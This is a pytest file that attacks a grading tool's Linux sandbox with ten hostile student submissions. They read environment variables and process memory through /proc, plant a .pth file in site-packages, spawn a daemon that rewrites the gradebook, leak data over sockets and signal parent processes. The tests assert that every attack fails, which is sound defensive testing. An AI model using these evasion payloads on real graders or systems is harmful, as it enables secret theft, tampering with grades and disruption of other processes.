"""Attacks on the OS sandbox, each one student of a class graded by `python -m grader grade`.

Every attack first tries the routes the audit hook refuses, then the ones it cannot see
(opens relative to a directory descriptor, renames whose destination it does not check,
`os.mkfifo`, `signal.pidfd_send_signal`, socket creation, getaddrinfo), so what stops the
second kind is the sandbox. An attack that gets what it wants defines a correct
`softmax` and so earns full marks; stopped, it defines nothing and earns an honest zero
("Missing definition"). After the batch the tests check that nothing leaked into any
output, nothing was written outside the jobs, nothing is left running, and the batch
finished. The same guarantees with the audit hook off: test_sandbox.py.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import site
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import FIXTURES, ROOT
from tests.offline.conftest import SOLUTION

pytestmark = pytest.mark.skipif(not sys.platform.startswith("linux"), reason="Linux only")

V = {k: secrets.token_hex(6) for k in ("env", "argv", "solution", "bug", "key", "other", "file")}
SITE = site.getsitepackages()[0]
PTH = f"nprl_attack_{V['file']}.pth"  # what the site-packages attack plants
VICTIM_FILE = f"nprl_victim_{V['file']}.txt"  # what it tries to move away
TMP_NAME = f"nprl-attack-{V['file']}"

PRELUDE = '''
import os
FOUND = []


def grab(label, fn):
    """Keep what fn returns; the hook's PermissionError and the OS's OSError end a route."""
    try:
        FOUND.append((label, fn()))
    except Exception:
        pass


def root_fd():
    return os.open("/", os.O_RDONLY)


def read_rel(path, size=1 << 20):
    """Read an absolute path through a descriptor of /: the hook sees a relative path."""
    fd = os.open(path.lstrip("/"), os.O_RDONLY, dir_fd=root_fd())
    with os.fdopen(fd, "rb") as f:
        return f.read(size)


def parents():
    """The worker (the parent) and the CLI (the grandparent), as far as this job can tell."""
    found, pid = [], os.getppid()
    while pid > 1 and len(found) < 2:
        found.append(pid)
        try:
            status = read_rel(f"/proc/{pid}/status").decode()
            pid = int(status.split("PPid:")[1].split()[0])
        except Exception:
            break
    return found


def pids():
    """Every pid this job can name: its /proc (through a descriptor), its parents."""
    found = set(parents())
    try:
        found |= {int(p) for p in os.listdir(os.open("proc", os.O_RDONLY, dir_fd=root_fd()))
                  if p.isdigit()}
    except Exception:
        pass
    return sorted(found - {os.getpid()})
'''

ENDING = """
for label, data in FOUND:
    print(label, repr(data)[:200])
if WON:
"""

ATTACKS = {
    # The TA's environment and argv: /proc, /dev/fd/../.., /proc/self/../<ppid>.
    "ta_environment": """
KEYS = ("NPRL_TA_" + "TOKEN=", "nprl_ta_" + "argv=")
grab("os.environ", lambda: repr(dict(os.environ)))
grab("/proc/self/environ", lambda: open("/proc/self/environ", "rb").read())
grab("/dev/fd/../..", lambda: read_rel("/dev/fd/../../self/environ"))
for pid in pids():
    for what in ("environ", "cmdline"):
        grab(f"{pid}/{what}", lambda: read_rel(f"/proc/{pid}/{what}"))
        grab(f"self/../{pid}/{what}", lambda: read_rel(f"/proc/self/../{pid}/{what}"))
WON = any(k.encode() in d if type(d) is bytes else k in d for _, d in FOUND for k in KEYS)
""",
    # The exercises folder: reference solution, bug bank, the spec (a quiz's key).
    "exercise_secrets": """
WON = False
for path in (@SOLUTION_PATH@, @BUG_PATH@, @SPEC_PATH@):
    grab("open", lambda: open(path, "rb").read())
    grab("dir_fd", lambda: read_rel(path))
    grab("../ walk", lambda: os.read(os.open("../" * 40 + path.lstrip("/"), os.O_RDONLY), 1 << 20))
    here = os.open(".", os.O_RDONLY)
    grab("dir_fd ../ walk", lambda: os.read(os.open("../" * 40 + path.lstrip("/"), os.O_RDONLY,
                                                    dir_fd=here), 1 << 20))
grab("listdir", lambda: os.listdir(os.open(@ROOT@.lstrip("/"), os.O_RDONLY, dir_fd=root_fd())))
WON = any(b"SECRET" + b"-" in d for _, d in FOUND if type(d) is bytes)
""",
    # Other students' code, and planting a file in their folder.
    "other_students": """
grab("dir_fd", lambda: read_rel(@OTHER_PATH@))
grab("listdir", lambda: os.listdir(os.open(@CLASS@.lstrip("/"), os.O_RDONLY, dir_fd=root_fd())))
def plant():
    fd = os.open(@OTHER_PATH@.lstrip("/") + ".planted", os.O_CREAT | os.O_WRONLY, 0o644,
                 dir_fd=root_fd())
    os.write(fd, b"mallory was here")
    return "planted"
grab("plant", plant)
WON = any(d == "planted" or (type(d) is bytes and b"OTHER" + b"-STUDENT" in d) for _, d in FOUND)
""",
    # /proc/<pid>/mem of the worker, of the CLI, of anything visible.
    "process_memory": """
NEEDLES = (b"SECRET" + b"-SOLUTION", b"NPRL_TA_" + b"TOKEN=")
def scan(pid):
    maps = read_rel(f"/proc/{pid}/maps").decode().splitlines()
    mem = os.open(f"proc/{pid}/mem", os.O_RDONLY, dir_fd=root_fd())
    budget, hits = 64 << 20, []
    for line in maps:
        span, perms = line.split()[:2]
        if not perms.startswith("rw"):
            continue
        lo, hi = (int(x, 16) for x in span.split("-"))
        try:
            data = os.pread(mem, min(hi - lo, budget), lo)
        except OSError:
            continue
        budget -= len(data)
        hits += [n for n in NEEDLES if n in data]
        if budget <= 0:
            break
    return hits
for pid in pids():
    grab(f"mem of {pid}", lambda: scan(pid))
WON = any(d for _, d in FOUND)
""",
    # Rename or write into the venv's site-packages (a .pth runs in every later Python).
    "site_packages": """
site = @SITE@
open("evil.pth", "w").write("import os\\n")
grab("open", lambda: open(os.path.join(site, @PTH@), "w").write("import os\\n"))
grab("rename", lambda: os.rename("evil.pth", os.path.join(site, @PTH@)) or "renamed")
grab("replace", lambda: os.replace("evil.pth", os.path.join(site, @PTH@)) or "renamed")
site_fd = os.open(site, os.O_RDONLY)
here = os.open(".", os.O_RDONLY)
grab("dir_fd write", lambda: os.write(os.open(@PTH@, os.O_CREAT | os.O_WRONLY, 0o644,
                                              dir_fd=site_fd), b"import os\\n"))
grab("dir_fd rename away", lambda: os.rename(@VICTIM_FILE@, "moved", src_dir_fd=site_fd,
                                             dst_dir_fd=here) or "renamed")
grab("dir_fd unlink", lambda: os.unlink(@VICTIM_FILE@, dir_fd=site_fd) or "removed")
WON = bool(FOUND)
""",
    # A process that outlives its job (double fork, setsid) and rewrites the gradebook.
    "outlive_the_job": """
import time
def daemon():
    os.setsid()
    if os.fork() == 0:
        time.sleep(3)
        fd = os.open(@GRADEBOOK@.lstrip("/"), os.O_CREAT | os.O_WRONLY | os.O_TRUNC, 0o644,
                     dir_fd=root_fd())
        os.write(fd, b"student,fx_softmax\\nmallory,100\\n")
    os._exit(0)
def spawn_with(start):
    pid = start()
    if pid == 0:
        daemon()
    return pid
import pty
grab("fork", lambda: spawn_with(os.fork))
grab("forkpty", lambda: spawn_with(lambda: pty.fork()[0]))
grab("posix_spawn", lambda: os.posix_spawn(@PYTHON@, ["python", "-c", "import time; "
                                           "time.sleep(30)"], {}))
WON = bool(FOUND)
""",
    # Files left in /tmp and /dev/shm after the batch.
    "files_in_tmp": """
for folder in ("/tmp", "/dev/shm"):
    path = os.path.join(folder, @TMP_NAME@)
    grab("open", lambda: open(path, "w").write("left behind"))
    grab("dir_fd", lambda: os.write(os.open(path.lstrip("/"), os.O_CREAT | os.O_WRONLY, 0o644,
                                            dir_fd=root_fd()), b"left behind"))
    grab("mkdir", lambda: os.mkdir(path.lstrip("/") + ".d", dir_fd=root_fd()) or "made")
WON = bool(FOUND)
""",
    # The network, and DNS.
    "network": """
import socket
def send_udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"leak", ("127.0.0.1", @UDP_PORT@))
    return "sent"
def connect_tcp():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(2)
    s.connect(("127.0.0.1", @TCP_PORT@))
    s.sendall(b"leak")
    return "sent"
grab("socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM) and "created")
grab("udp", send_udp)
grab("tcp", connect_tcp)
grab("dns", lambda: socket.getaddrinfo("example.com", 80))
grab("localhost", lambda: socket.gethostbyname("localhost"))
WON = bool(FOUND)
""",
    # Stopping or killing the zygote, the CLI or the stand-in parent with any signal call.
    # (Only these: were the sandbox broken, a wider net would stop the machine's processes.)
    "signals": """
import signal
targets = sorted((set(parents()) | {@VICTIM_PID@}) - {0, 1, os.getpid()})
for pid in targets:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        grab(f"kill {pid}", lambda: os.kill(pid, sig) or "sent")
        grab(f"killpg {pid}", lambda: os.killpg(pid, sig) or "sent")
        grab(f"pidfd {pid}", lambda: signal.pidfd_send_signal(os.pidfd_open(pid), sig) or "sent")
WON = bool(FOUND)
""",
    # A FIFO or a socket planted where the parent later reads or writes.
    "fifo_and_socket": """
import socket
for path in (@GRADEBOOK@, @RESULTS@, "/tmp/" + @TMP_NAME@ + ".fifo", "here.fifo"):
    grab("mkfifo", lambda: os.mkfifo(path) or "made")
    grab("mkfifo dir_fd", lambda: os.mkfifo(path.lstrip("/"), dir_fd=root_fd()) or "made")
    def bind():
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.bind(path + ".sock")
        return "bound"
    grab("unix socket", bind)
WON = bool(FOUND)
""",
}


def _indent(code: str) -> str:
    return "".join("    " + line + "\n" if line.strip() else "\n" for line in code.splitlines())


def attack_source(name: str, values: dict) -> str:
    body = ATTACKS[name]
    for key, value in values.items():
        body = body.replace(f"@{key}@", repr(value))
    assert "@" not in body.replace("@{", ""), body  # every placeholder filled
    return PRELUDE + body + ENDING + _indent(SOLUTION)


def _listen():
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    tcp.setblocking(False)
    return udp, tcp


def _processes_with(needle: bytes) -> list[int]:
    """Host pids whose environment mentions needle (a zygote or a fork of one)."""
    out = []
    for p in os.listdir("/proc"):
        if p.isdigit() and int(p) != os.getpid():
            try:
                if needle in Path(f"/proc/{p}/environ").read_bytes():
                    out.append(int(p))
            except OSError:
                pass
    return out


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    """One `python -m grader grade` over a class of attackers and two honest students."""
    from grader.sandbox import resolve

    sandbox = resolve("bwrap")  # fails with the install line where bubblewrap is missing
    work = tmp_path_factory.mktemp("attacks")
    root = work / "root"
    shutil.copytree(FIXTURES, root)
    ex = root / "fx-page" / "fx_softmax"
    for path, value in ((ex / "solution.py", "solution"), (ex / "spec.yaml", "key"),
                        *((b, "bug") for b in sorted((ex / "bugs").glob("*.py")))):  # fmt: skip
        path.write_text(path.read_text() + f"\n# SECRET-{value.upper()}-{V[value]}\n")
    cls, out, cli_tmp = work / "class", work / "out", work / "cli-tmp"
    cli_tmp.mkdir()
    (cls / "aa_honest").mkdir(parents=True)
    other = cls / "aa_honest" / "fx_softmax.py"
    other.write_text(f"# OTHER-STUDENT-{V['other']}\n" + SOLUTION)
    (cls / "zz_honest").mkdir()
    (cls / "zz_honest" / "fx_softmax.py").write_text(SOLUTION)
    victim = subprocess.Popen(["sleep", "600"])  # stands in for the parent: must not stop
    udp, tcp = _listen()
    Path(SITE, VICTIM_FILE).write_text("must stay")
    values = {
        "SOLUTION_PATH": str(ex / "solution.py"), "BUG_PATH": str(sorted((ex / "bugs").glob("*.py"))[0]),
        "SPEC_PATH": str(ex / "spec.yaml"), "ROOT": str(root), "OTHER_PATH": str(other),
        "CLASS": str(cls), "SITE": SITE, "PTH": PTH, "VICTIM_FILE": VICTIM_FILE,
        "GRADEBOOK": str(out / "gradebook.csv"), "RESULTS": str(out / "results.jsonl"),
        "PYTHON": sys.executable, "TMP_NAME": TMP_NAME, "UDP_PORT": udp.getsockname()[1],
        "TCP_PORT": tcp.getsockname()[1], "VICTIM_PID": victim.pid,
    }  # fmt: skip
    for name in ATTACKS:
        (cls / name).mkdir()
        (cls / name / "fx_softmax.py").write_text(attack_source(name, values))
    before = {p: p.read_bytes() for p in sorted(cls.rglob("*")) if p.is_file()}
    env = {**os.environ, "NPRL_TA_TOKEN": V["env"], "TMPDIR": str(cli_tmp)}
    cmd = [sys.executable, "-X", f"nprl_ta_argv={V['argv']}", "-m", "grader", "grade", str(cls),
           "--root", str(root), "--out", str(out), "--jobs", "2"]  # fmt: skip
    t0 = time.monotonic()
    try:
        proc = subprocess.run(cmd, cwd=ROOT, env=env, capture_output=True, text=True, timeout=900)
        seconds = time.monotonic() - t0
        time.sleep(4)  # the outliving attack writes 3 s after its job (had it survived)
        result = {
            "proc": proc, "seconds": seconds, "out": out, "class": cls, "root": root,
            "before": before, "sandbox": sandbox, "udp": udp, "tcp": tcp, "victim": victim,
            "left": _processes_with(f"NPRL_SCRATCH={cli_tmp}".encode()),
            "records": {r["student"]: r for r in map(json.loads,
                        (out / "results.jsonl").read_text().splitlines())},
        }  # fmt: skip
        yield result
    finally:
        victim.kill()
        victim.wait()
        udp.close()
        tcp.close()
        for planted in (Path(SITE, PTH), Path(SITE, VICTIM_FILE)):
            planted.unlink(missing_ok=True)


def test_the_batch_finished(batch):
    proc = batch["proc"]
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert set(batch["records"]) == set(ATTACKS) | {"aa_honest", "zz_honest"}, batch["records"]


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_each_attack_ends_in_an_honest_zero_with_a_reason(batch, name):
    rec = batch["records"][name]
    assert rec["score"] == 0 and not rec["passed"], (name, rec)  # full marks: the attack won
    assert rec["error"] is not None and rec["error"]["title"], rec
    assert rec["error"]["title"] == "Missing definition", rec["error"]  # it ran to its end
    assert not any(t["passed"] for t in rec["tests"]) and all(t["message"] for t in rec["tests"])
    assert rec["protections"] == batch["sandbox"].protections, rec["protections"]


def test_honest_students_keep_full_marks(batch):
    for name in ("aa_honest", "zz_honest"):
        rec = batch["records"][name]
        assert rec["passed"] and rec["score"] == 6, rec


def test_nothing_leaked_into_any_output(batch):
    texts = {"stdout": batch["proc"].stdout, "stderr": batch["proc"].stderr}
    for path in sorted(batch["out"].rglob("*")):
        if path.is_file():
            texts[str(path)] = path.read_text(errors="replace")
    for kind, value in V.items():
        if kind == "file":  # (names the attacks use, not a secret)
            continue
        for where, text in texts.items():
            assert value not in text, f"the {kind} marker leaked into {where}"
    assert "SECRET-" not in "".join(texts.values())


def test_nothing_was_written_outside_the_jobs(batch):
    for folder in ("/tmp", "/dev/shm"):
        assert not [p for p in os.listdir(folder) if p.startswith(TMP_NAME)], folder
    assert not Path(SITE, PTH).exists(), "a .pth was planted in site-packages"
    assert Path(SITE, VICTIM_FILE).read_text() == "must stay"
    after = {p: p.read_bytes() for p in sorted(batch["class"].rglob("*")) if p.is_file()}
    assert after == batch["before"], "the class folder changed"
    gradebook = (batch["out"] / "gradebook.csv").read_text()
    assert "mallory" not in gradebook and "aa_honest" in gradebook, gradebook


def test_a_later_run_is_unaffected(batch):
    """A fresh Python (as the TA's next `grade` would start) runs no planted code."""
    check = subprocess.run([sys.executable, "-c", "import sys; print(len(sys.path))"],
                           capture_output=True, text=True, timeout=60)  # fmt: skip
    assert check.returncode == 0 and check.stderr == "", check


def test_nothing_is_left_running(batch):
    assert batch["left"] == [], f"processes of the batch still run: {batch['left']}"


def test_no_packet_reached_the_host(batch):
    with pytest.raises(BlockingIOError):
        batch["udp"].recvfrom(100)
    with pytest.raises(BlockingIOError):
        batch["tcp"].accept()


def test_no_signal_reached_a_process_outside_the_job(batch):
    victim = batch["victim"]
    assert victim.poll() is None, "the stand-in parent was killed"
    state = Path(f"/proc/{victim.pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    assert state in ("S", "R"), f"the stand-in parent is in state {state}"


def test_no_fifo_or_socket_where_the_parent_writes(batch):
    for path in [batch["out"], *batch["out"].rglob("*")]:
        mode = path.lstat().st_mode
        assert stat.S_ISREG(mode) or stat.S_ISDIR(mode), f"{path} is not a regular file"
